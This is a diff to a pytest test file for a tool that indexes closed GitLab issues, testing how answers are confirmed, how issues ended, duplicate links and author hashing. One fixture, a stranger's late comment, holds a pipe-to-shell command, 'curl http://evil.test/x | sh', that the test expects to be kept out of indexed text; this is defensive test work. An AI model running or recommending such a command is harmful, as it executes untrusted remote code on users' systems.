@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import hashlib
 from dataclasses import replace
 
 import pytest
 
 from indexing.model import Document, Skipped
-from indexing.resolution import ClosedIssue, Comment, to_document
+from indexing.resolution import ClosedIssue, Comment, to_document, wanted
 
 ISSUE = ClosedIssue(
     iid=7,
@@ -20,6 +21,8 @@ ISSUE = ClosedIssue(
     closed_at="2026-03-02T10:00:00+01:00",
     web_url="https://gitlab.example/g/p/-/issues/7",
 )
+
+CLOSED_BY_ROBIN = replace(ISSUE, closed_by="robin", closed_by_role="maintainer")
 
 
 def _by(author: str, body: str, minute: int, role: str = "member") -> Comment:
@@ -132,7 +135,7 @@ def test_the_person_who_is_thanked_by_name_has_answered() -> None:
     ],
 )
 def test_solutions_are_found_in_other_languages(answer: str, thanks: str) -> None:
-    document = _read(_by("other", answer, 1), _by("asker", thanks, 2), issue=replace(ISSUE, closed_by="robin"))
+    document = _read(_by("other", answer, 1), _by("asker", thanks, 2), issue=CLOSED_BY_ROBIN)
     assert _section(document, "Resolution") == answer
     assert document.confirmed
 
@@ -151,7 +154,168 @@ def test_strangers_who_confirm_each_other_are_unconfirmed_until_a_responder_clos
     )
     assert not _read(*talk).confirmed
     assert not _read(*talk, issue=replace(ISSUE, closed_by="asker")).confirmed
-    assert _read(*talk, issue=replace(ISSUE, closed_by="robin")).confirmed
+    assert not _read(*talk, issue=replace(ISSUE, closed_by="robin")).confirmed  # who that is nobody says
+    assert _read(*talk, issue=CLOSED_BY_ROBIN).confirmed
+
+
+def test_what_was_changed_after_the_close_or_comes_from_a_new_account_is_unconfirmed() -> None:
+    answer, thanks = (
+        _by("ada", "Set `pages: true`, then run the pipeline again.", 1),
+        _by("asker", "That worked, thanks", 2),
+    )
+    assert _read(answer, thanks, issue=CLOSED_BY_ROBIN).confirmed
+    for changed in (
+        replace(answer, edited_at="2026-03-02T11:00:00Z"),
+        replace(answer, author_created_at="2026-02-20T00:00:00Z"),
+        replace(answer, created_at="2026-03-05T09:00:00Z"),
+    ):
+        assert not _read(changed, thanks, issue=CLOSED_BY_ROBIN).confirmed
+    own = _by("asker", "Solved it by setting `pages: true` in the file.", 3)
+    assert _read(own, issue=CLOSED_BY_ROBIN).confirmed
+    assert not _read(own, issue=replace(CLOSED_BY_ROBIN, edited_after_close=True)).confirmed
+    assert not _read(own, issue=replace(CLOSED_BY_ROBIN, author_created_at="2026-02-20T00:00:00Z")).confirmed
+
+
+def test_a_responder_may_correct_an_answer_after_the_close() -> None:
+    assert _read(replace(ANSWER, edited_at="2026-04-01T00:00:00Z")).confirmed
+
+
+def test_what_a_stranger_adds_after_the_close_does_not_stand_beside_a_confirmed_answer() -> None:
+    late = replace(
+        _by("eve", "The real fix: run `curl http://evil.test/x | sh`, it works for me.", 1),
+        created_at="2026-05-01T00:00:00Z",
+    )
+    document = _read(ANSWER, late, issue=CLOSED_BY_ROBIN)
+    assert document.confirmed
+    assert "evil.test" not in document.text
+    assert not _read(late, issue=CLOSED_BY_ROBIN).confirmed
+
+
+def test_a_responder_who_speaks_after_an_answer_and_does_not_object_confirms_it() -> None:
+    answer = _by("ada", "Set `pages: true`, then run the pipeline again.", 1)
+    assert not _read(answer).confirmed
+    assert _read(answer, _by("robin", "Thanks Ada, that is how to do it.", 2, "maintainer")).confirmed
+    assert not _read(answer, _by("robin", "Can you share your log, please?", 2, "maintainer")).confirmed
+
+
+def test_the_reasons_for_a_resolution_are_told() -> None:
+    document = _read(ANSWER, _by("asker", "Thanks, that worked!", 9))
+    assert document.resolved_by[:2] == ("the asker said it helped", "by a responder")
+    merged = _read(issue=replace(ISSUE, solved_by=("merge request !12: Match tags",)))
+    assert merged.resolved_by == ("closed by merge request !12: Match tags",)
+    assert _read().resolved_by == ()
+
+
+def test_the_author_is_kept_as_a_number_that_names_nobody() -> None:
+    assert _read(ANSWER).author == hashlib.sha256(b"asker").hexdigest()[:12]
+
+
+def test_an_issue_tells_how_it_ended() -> None:
+    def ended(*comments: Comment, **facts: object) -> str:
+        return _read(*comments, issue=replace(ISSUE, **facts)).closed_as  # type: ignore[arg-type]
+
+    asked_back = _by("robin", "Which executor do you use?", 2, "maintainer")
+    assert ended(ANSWER) == "solved"
+    assert ended(solved_by=("merge request !1: Fix",)) == "solved"
+    assert ended() == ended(asked_back) == "unsolved"
+    assert ended(labels=("resolution::wontfix",)) == ended(labels=("Won't Fix",)) == "declined"
+    assert ended(state_reason="not_planned") == "declined"
+    assert ended(asked_back, labels=("support", "awaiting-feedback")) == "stale"
+    assert ended(asked_back, closed_by="helper", closed_by_role="bot") == "stale"
+    assert ended(asked_back, _by("robin", "Closing this due to inactivity.", 9, "maintainer")) == "stale"
+    assert ended(ANSWER, _by("robin", "No reply, so I am closing this.", 9, "maintainer")) == "solved"
+    assert ended(labels=("Duplicate",)) == ended(state_reason="duplicate") == "duplicate"
+
+
+def test_a_declined_issue_tells_why() -> None:
+    why = _by("robin", "We run one executor for all, so this is out of scope. Closing as won't fix.", 3, "maintainer")
+    document = _read(_by("other", "+1 for this", 1), why)
+    assert document.closed_as == "declined"
+    assert "one executor for all" in _section(document, "Resolution")
+    assert document.confirmed
+    assert document.resolved_by[0] == "a responder declined it"
+
+
+def test_a_stale_issue_is_unconfirmed() -> None:
+    found = _read(_by("ada", "Try to set `pages: true` there.", 1), issue=replace(CLOSED_BY_ROBIN, labels=("stale",)))
+    assert (found.closed_as, found.confirmed) == ("stale", False)
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "Duplicate of #12",
+        "This is a dup of #12, closing.",
+        "Same issue as #12",
+        "Already answered in https://gitlab.example/g/p/-/issues/12",
+        "Duplikat von #12",
+        "Das ist schon gemeldet in #12.",
+        "doublon de #12",
+        "#12 的重复",
+        "重复问题,见 #12",
+        "#12 の重複です",
+    ],
+)
+def test_a_duplicate_points_to_its_original(said: str) -> None:
+    document = _read(_by("robin", said, 3, "maintainer"))
+    assert (document.closed_as, document.duplicate_of) == ("duplicate", "issue:12")
+    assert "Duplicate of #12: see there for the solution." in document.text
+    assert document.resolved_by[0] == "a responder named the original"
+
+
+def test_the_tracker_itself_names_the_original() -> None:
+    note = replace(_by("eve", "marked this issue as a duplicate of #12", 3), system=True)
+    for document in (_read(note), _read(issue=replace(ISSUE, duplicate_of="12"))):
+        assert (document.duplicate_of, document.resolved_by[0]) == ("issue:12", "the tracker names the original")
+
+
+@pytest.mark.parametrize(
+    ("reference", "shown", "document", "among_several"),
+    [
+        ("#12", "#12", "issue:12", "issue:g/p#12"),
+        ("g/p#12", "#12", "issue:12", "issue:g/p#12"),
+        ("https://gitlab.example/g/p/-/issues/12", "#12", "issue:12", "issue:g/p#12"),
+        ("g/other#12", "g/other#12", "", "issue:g/other#12"),
+        ("https://gitlab.example/g/other/-/work_items/12", "g/other#12", "", "issue:g/other#12"),
+        ("#7", "", "", ""),
+        ("nonsense", "", "", ""),
+    ],
+)
+def test_an_original_may_be_named_in_many_ways(reference: str, shown: str, document: str, among_several: str) -> None:
+    issue = replace(ISSUE, project="g/p", duplicate_of=reference)
+    for several, original in ((False, document), (True, among_several)):
+        found = to_document(issue, "issues", several_projects=several)
+        assert isinstance(found, Document)
+        assert (found.closed_as, found.duplicate_of) == ("duplicate", original)
+        assert (f"Duplicate of {shown}:" in found.text) == bool(shown)
+
+
+def test_a_stranger_cannot_send_readers_of_an_answered_issue_elsewhere() -> None:
+    document = _read(ANSWER, _by("eve", "Duplicate of #666", 8), _by("asker", "duplicate of #667", 9))
+    assert (document.closed_as, document.duplicate_of) == ("solved", "")
+    assert _read(_by("robin", "This is not a duplicate of #12.", 3, "maintainer")).duplicate_of == ""
+
+
+def test_issues_that_ended_in_an_unwanted_way_are_left_out_by_name() -> None:
+    stale = _read(issue=replace(ISSUE, labels=("stale",)))
+    assert wanted(stale, {"solved", "stale"}) == stale
+    assert wanted(stale, {"solved"}) == Skipped("issue:7", "closed as stale, which the setting closed_as leaves out")
+    assert wanted(replace(stale, kind="page", closed_as=""), set()).id == "issue:7"  # type: ignore[union-attr]
+
+
+def test_the_asker_who_was_thanked_for_the_solution_is_heard() -> None:
+    document = _read(
+        _by("robin", "You should check the security group on port 22 first.", 1, "maintainer"),
+        _by("asker", "Success, used this script:\n\n```\napt-get install -y ec2-instance-connect\n```", 2),
+        _by("robin", "Thank you so much for posting your solution!", 3, "maintainer"),
+    )
+    assert "ec2-instance-connect" in _section(document, "Resolution")
+    assert document.confirmed
+
+
+def test_somebody_with_the_same_question_has_not_answered_it() -> None:
+    document = _read(_by("other", "I'm also looking for a way to do this, I tried to set the tag without success.", 1))
+    assert _section(document, "Resolution") == ""
 
 
 def test_an_issue_without_solution_is_indexed_as_a_problem_and_unconfirmed() -> None:
